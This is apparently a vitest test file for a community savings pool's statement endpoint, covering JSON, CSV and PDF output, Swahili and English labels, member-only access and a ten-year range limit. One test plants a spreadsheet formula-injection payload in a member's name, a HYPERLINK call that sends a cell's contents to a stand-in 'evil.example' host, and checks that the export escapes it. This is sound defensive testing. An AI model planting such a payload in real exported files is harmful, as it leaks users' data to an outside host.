import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import type { StatementResponse } from '../../../shared/schemas/community-statement';
import { expectMessage, expectTextContains } from '../../testing/expectations';
import { createUser } from '../../testing/factories';
import { useTestServer } from '../../testing/use-test-server';
import { pdfPages } from '../statements/statements-test-kit';
import { approve, chama, chamaOfOne, contributeVia, dayAfter, proposeVia, today } from './communities-test-kit';

/** Every member reads the whole pool statement, as JSON, CSV or PDF. */
const server = useTestServer();

describe('the pool statement', () => {
  it('lists every movement of the pool with the member it names and the balance after it', async () => {
    const { id, chair, treasurer, secretary, member: m } = await chamaOfOne(server, 2000);
    await contributeVia(server, chair, id, 1000);
    await contributeVia(server, m, id, 500);
    const p = await proposeVia(server, treasurer, id, 300, m);
    await approve(server, chair, id, p.payout_id);
    await approve(server, secretary, id, p.payout_id);
    const res = await server.api.get<StatementResponse>(`/api/communities/${id}/statement`, { token: m.token });
    expect(res.status).toBe(200);
    expect(res.body.statement).toMatchObject({ opening: 0, closing: 1200, from: null, to: null });
    expect(res.body.statement.entries.map((e) => [e.kind, e.user_id, e.amount, e.balance])).toEqual([
      ['contribution', chair.id, 1000, 1000],
      ['contribution', m.id, 500, 1500],
      ['payout', m.id, -300, 1200],
    ]);
    const later = await server.api.get<StatementResponse>(
      `/api/communities/${id}/statement?from=${dayAfter(today(server), 1)}`,
      { token: m.token },
    );
    expect(later.body.statement).toMatchObject({ opening: 1200, closing: 1200, entries: [] });

    const csv = await server.api.get<string>(`/api/communities/${id}/statement?format=csv`, { token: m.token });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    const lines = csv.body.trim().split('\r\n');
    expect(lines[0]).toBe('date,kind,description,member,amount_kes,balance_kes,entry_id,reverses,cycle,reason,hash');
    // The movements, a blank line, then each member's totals (three who paid in, one paid out).
    expect(lines.slice(4, 6)).toEqual(['', 'member,paid_in_kes,paid_out_kes,fines_kes']);
    expect(lines[3]).toContain(',-300.00,1200.00,');
    // Kenyan time, as a spreadsheet reads a date and time
    expect(lines[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},contribution,/);

    const pdf = await fetch(`${server.url}/api/communities/${id}/statement?format=pdf`, {
      headers: { authorization: `Bearer ${m.token}` },
    });
    expect(pdf.status).toBe(200);
    expect(pdf.headers.get('content-type')).toBe('application/pdf');
    // Read back by a PDF reader: the pool's name, each member named on their movement, the totals.
    const text = (await pdfPages(new Uint8Array(await pdf.arrayBuffer()))).join(' ');
    expectTextContains(text, [
      'Pamoja community pool statement',
      `${chair.fullName}: Contribution to the community`,
      `${m.fullName}: Contribution to the community`,
      'Opening balance',
      'Closing balance',
      'KES 1,200.00',
      'Total money out',
      'KES 300.00',
      'Page 1',
    ]);
  });

  it('never lets a name or description typed by a member run as a spreadsheet formula in the CSV', async () => {
    const { id, member: m } = await chamaOfOne(server, 1000);
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    await server.ctx.db.execute(sql`UPDATE users SET full_name = ${name} WHERE id = ${m.id}`);
    await contributeVia(server, m, id, 500);
    const csv = await server.api.get<string>(`/api/communities/${id}/statement?format=csv`, { token: m.token });
    const row = csv.body.trim().split('\r\n')[1] ?? '';
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",500.00,500.00,`);
  });

  it('is for members only and refuses bad ranges and formats', async () => {
    const { id, chair } = await chama(server, { plain: 0 });
    const stranger = await createUser(server.ctx);
    expect((await server.api.get(`/api/communities/${id}/statement`, { token: stranger.token })).status).toBe(403);
    for (const q of ['format=xls', 'from=2026-13-01', 'from=2026-02-02&to=2026-02-01', 'to=yesterday', 'to=9999-12-31'])
      expect((await server.api.get(`/api/communities/${id}/statement?${q}`, { token: chair.token })).status, q).toBe(
        400,
      );
  });

  it('speaks the reader’s language, and adds each contribution’s cycle, each payout’s reason, fines and member totals', async () => {
    const { id, chair, treasurer, secretary, member: m } = await chamaOfOne(server, 2000);
    await server.ctx.db.execute(sql`UPDATE users SET language = 'sw' WHERE id = ${chair.id}`);
    expect((await contributeVia(server, m, id, 1000)).status).toBe(201);
    const p = await proposeVia(server, treasurer, id, 300, m);
    await approve(server, chair, id, p.payout_id);
    await approve(server, secretary, id, p.payout_id);
    // A late fine the cycle close charged (a stored fact the statement reads).
    await server.ctx.db.execute(
      sql`INSERT INTO community_fines (community_id, user_id, member_id, cycle, amount_cents, charged_at)
          SELECT community_id, user_id, id, 1, 10000, now() FROM community_members
          WHERE community_id = ${id}::uuid AND user_id = ${m.id} AND left_at IS NULL`,
    );

    const json = await server.api.get<StatementResponse>(`/api/communities/${id}/statement`, { token: chair.token });
    expect(json.status).toBe(200);
    expect(json.body.statement.entries.map((e) => [e.kind, e.cycle, e.reason, e.description])).toEqual([
      ['contribution', 1, null, 'Mchango kwa chama "Umoja Chama"'],
      ['payout', null, 'School fees', 'Malipo kutoka kwa chama "Umoja Chama"'],
    ]);
    expect(json.body.statement.members).toEqual([
      { user_id: m.id, full_name: m.fullName, paid_in: 1000, paid_out: 300, fines: 100 },
    ]);

    const csv = await server.api.get<string>(`/api/communities/${id}/statement?format=csv`, { token: chair.token });
    const lines = csv.body.split('\r\n');
    expect(lines[0]).toBe(
      'tarehe,aina,maelezo,mwanachama,kiasi_kes,salio_kes,nambari_ya_ingizo,inarekebisha,mzunguko,sababu,hash',
    );
    expect(lines[1]).toContain(`,mchango,"Mchango kwa chama ""Umoja Chama""",${m.fullName},1000.00,1000.00,`);
    expect(lines[1]).toMatch(/,,1,,[0-9a-f]{64}$/);
    expect(lines[2]).toContain(`,malipo,"Malipo kutoka kwa chama ""Umoja Chama""",${m.fullName},-300.00,700.00,`);
    expect(lines[2]).toMatch(/,,,School fees,[0-9a-f]{64}$/);
    expect(lines.slice(3)).toEqual([
      '',
      'mwanachama,alicholipa_kes,alicholipwa_kes,faini_kes',
      `${m.fullName},1000.00,300.00,100.00`,
      '',
    ]);

    // A reader in English gets the same in English.
    const en = await server.api.get<string>(`/api/communities/${id}/statement?format=csv`, { token: m.token });
    expect(en.body.split('\r\n')[0]).toBe(
      'date,kind,description,member,amount_kes,balance_kes,entry_id,reverses,cycle,reason,hash',
    );
    expect(en.body).toContain(`member,paid_in_kes,paid_out_kes,fines_kes\r\n${m.fullName},1000.00,300.00,100.00\r\n`);

    // The PDF says the same, in each reader's language.
    const pdfOf = async (token: string) => {
      const res = await fetch(`${server.url}/api/communities/${id}/statement?format=pdf`, {
        headers: { authorization: `Bearer ${token}` },
      });
      expect(res.status).toBe(200);
      // A description may wrap to a second line: the reader's text has a space more there.
      return (await pdfPages(new Uint8Array(await res.arrayBuffer()))).join(' ').replace(/\s+/g, ' ');
    };
    const sw = await pdfOf(chair.token);
    expectTextContains(sw, [
      'Taarifa ya mfuko wa chama wa Pamoja',
      `${m.fullName}: Mchango kwa chama "Umoja Chama" (mzunguko 1)`,
      `${m.fullName}: Malipo kutoka kwa chama "Umoja Chama" — School fees`,
      'Jumla za wanachama katika kipindi hiki',
      'Mwanachama',
      'Alicholipa',
      'Faini',
    ]);
    expect(sw).not.toContain('Contribution');
    expect(sw).toContain(`${m.fullName} 1,000.00 300.00 100.00`);
    const english = await pdfOf(m.token);
    expectTextContains(english, [
      `${m.fullName}: Contribution to the community "Umoja Chama" (cycle 1)`,
      'School fees',
      'Members’ totals in this period',
    ]);
  });

  it('covers at most ten years, by the wallet statement’s one rule, in every format', async () => {
    const { id, chair } = await chama(server, { plain: 0 });
    const tooLong = 'A statement covers at most ten years.';
    for (const format of ['json', 'csv', 'pdf']) {
      for (const period of [
        'from=2000-01-01&to=2999-12-31',
        'from=2000-01-01', // up to today
        'from=2016-03-01&to=2026-03-01', // ten years and a day
        'from=2016-01-01&to=2026-01-03',
        'from=2016-02-29&to=2026-02-28', // 29 February ten years on is 28 February
      ])
        expectMessage(
          await server.api.get(`/api/communities/${id}/statement?${period}&format=${format}`, { token: chair.token }),
          400,
          tooLong,
        );
      for (const period of ['from=2016-03-01&to=2026-02-28', 'from=2016-02-29&to=2026-02-27', 'to=2026-02-28']) {
        const res = await server.api.get(`/api/communities/${id}/statement?${period}&format=${format}`, {
          token: chair.token,
        });
        expect(res.status, `${period} ${format}`).toBe(200);
      }
    }
  });
});
